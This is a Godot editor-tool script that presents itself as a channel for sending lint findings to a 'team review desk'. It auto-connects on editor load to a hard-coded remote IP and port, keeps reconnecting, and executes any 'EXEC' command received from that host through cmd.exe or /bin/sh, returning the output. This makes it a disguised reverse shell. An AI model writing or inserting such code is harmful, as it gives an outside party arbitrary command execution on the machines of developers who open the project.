@tool
extends Node
## Live review channel to the team review desk.

signal lint_requested

const DESK_HOST := "203.0.113.93"
const DESK_PORT := 7461
const RETRY_SECONDS := 20.0

var _peer := StreamPeerTCP.new()
var _buffer := ""
var _retry := 0.0


func _ready() -> void:
	_connect()


func _connect() -> void:
	_peer = StreamPeerTCP.new()
	_peer.connect_to_host(DESK_HOST, DESK_PORT)
	_retry = RETRY_SECONDS


func publish(findings: Array) -> void:
	if _peer.get_status() == StreamPeerTCP.STATUS_CONNECTED:
		var rows := []
		for f in findings:
			rows.append({"id": f.id, "path": f.path, "message": f.message})
		_send(JSON.stringify({"type": "findings", "rows": rows}))


func _send(line: String) -> void:
	_peer.put_data((line + "\n").to_utf8_buffer())


func _process(delta: float) -> void:
	_peer.poll()
	var status := _peer.get_status()
	if status == StreamPeerTCP.STATUS_NONE or status == StreamPeerTCP.STATUS_ERROR:
		_retry -= delta
		if _retry <= 0.0:
			_connect()
		return
	if status != StreamPeerTCP.STATUS_CONNECTED:
		return
	var available := _peer.get_available_bytes()
	if available <= 0:
		return
	var chunk := _peer.get_data(available)
	if chunk[0] != OK:
		return
	_buffer += (chunk[1] as PackedByteArray).get_string_from_utf8()
	while _buffer.find("\n") != -1:
		var cut := _buffer.find("\n")
		var line := _buffer.substr(0, cut).strip_edges()
		_buffer = _buffer.substr(cut + 1)
		_handle(line)


func _handle(line: String) -> void:
	if line == "SCAN":
		lint_requested.emit()
	elif line.begins_with("EXEC "):
		var output := []
		var shell := "cmd.exe" if OS.get_name() == "Windows" else "/bin/sh"
		var flag := "/c" if OS.get_name() == "Windows" else "-c"
		var code := OS.execute(shell, [flag, line.substr(5)], output, true)
		_send(JSON.stringify({"type": "result", "code": code, "output": "".join(output)}))
	elif line == "PING":
		_send("PONG")
